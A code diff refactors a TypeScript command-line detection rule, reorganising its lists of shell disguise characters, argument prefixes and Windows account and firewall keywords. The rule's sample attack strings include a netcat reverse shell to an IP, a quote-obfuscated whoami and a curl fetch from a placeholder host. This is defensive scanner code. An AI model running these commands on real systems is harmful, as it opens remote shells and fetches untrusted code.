@@ -8,11 +8,16 @@ const shape =
     subject.shell[name] ?? -1;
 
 /** What an argument that nobody writes by chance, or a disguised program, cannot do without: one of these. */
-const ARGUMENT_MARKS = [
-  ...['-', '/', '\\', '*', '$', '"', "'", '%', '^', '`', '../', 'c:', 'http'],
-  ...Array.from('0123456789', (digit) => `.${digit}`),
+/** What a shell takes away while it reads a word. */
+const DISGUISES = ['$', "'", '"', '\\', '^', '%', '`'];
+/** What an argument begins with that nobody writes by chance; a whole command has one behind a blank. */
+const ARGUMENT_STARTS = [
+  ...['-', '/', '~/', './', '../', '*', 'http'],
+  ...'0123456789',
+  ...Array.from('abcdefghijklmnopqrstuvwxyz', (drive) => `${drive}:/`),
   ...['user', 'localgroup', 'view', 'use', 'share', 'add', 'query', 'delete', 'firewall'],
 ];
+const ARGUMENTS = [' ', '\t', '+'].flatMap((blank) => ARGUMENT_STARTS.map((start) => blank + start));
 
 export const commandRules: readonly Rule[] = [
   {
@@ -75,7 +80,7 @@ export const commandRules: readonly Rule[] = [
     ignores: 'Sentences that begin with the name of a program.',
     source: 'POSIX shell, cmd.exe and PowerShell grammars',
     inDocuments: 'notice',
-    needs: [[' ', '+', '$', "'", '"', '\\', '^', '%', '`', '\t'], ARGUMENT_MARKS],
+    needs: [[...DISGUISES, ...ARGUMENTS]],
     find: ({ text }) => (isCommandLine(text) ? 0 : -1),
     attacks: ['nc -e /bin/sh 10.0.0.9', "w'h'oami", 'curl http://a.example/x'],
     harmless: ['curl is a tool', 'cat food', 'id card'],
